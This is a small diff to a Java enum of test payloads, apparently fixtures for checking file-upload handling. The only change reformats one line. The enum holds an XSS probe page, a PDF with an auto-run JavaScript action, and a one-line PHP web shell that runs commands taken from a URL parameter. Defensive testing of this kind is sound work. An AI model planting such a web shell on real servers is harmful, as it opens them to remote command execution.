@@ -30,8 +30,9 @@ public enum Payload {
     public byte[] bytes() {
         return switch (this) {
             case HTML -> text("<html><script>alert(document.domain)</script></html>");
-            case PDF -> text("%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
-                    + "trailer<</Root 1 0 R>>\n%%EOF\n");
+            case PDF ->
+                text("%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
+                        + "trailer<</Root 1 0 R>>\n%%EOF\n");
             case PHP -> text("<?php system($_GET['c']); ?>");
             case ZIP, JAR -> archive();
         };
